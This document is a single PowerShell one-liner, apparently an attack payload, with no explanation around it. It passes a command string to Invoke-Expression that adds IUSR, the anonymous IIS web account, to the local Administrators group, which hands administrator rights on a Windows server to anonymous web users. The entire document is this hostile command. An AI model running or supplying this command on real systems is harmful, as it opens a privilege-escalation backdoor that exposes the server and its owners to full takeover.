'Add-LocalGroupMember -Group Administrators -Member IUSR' | iex
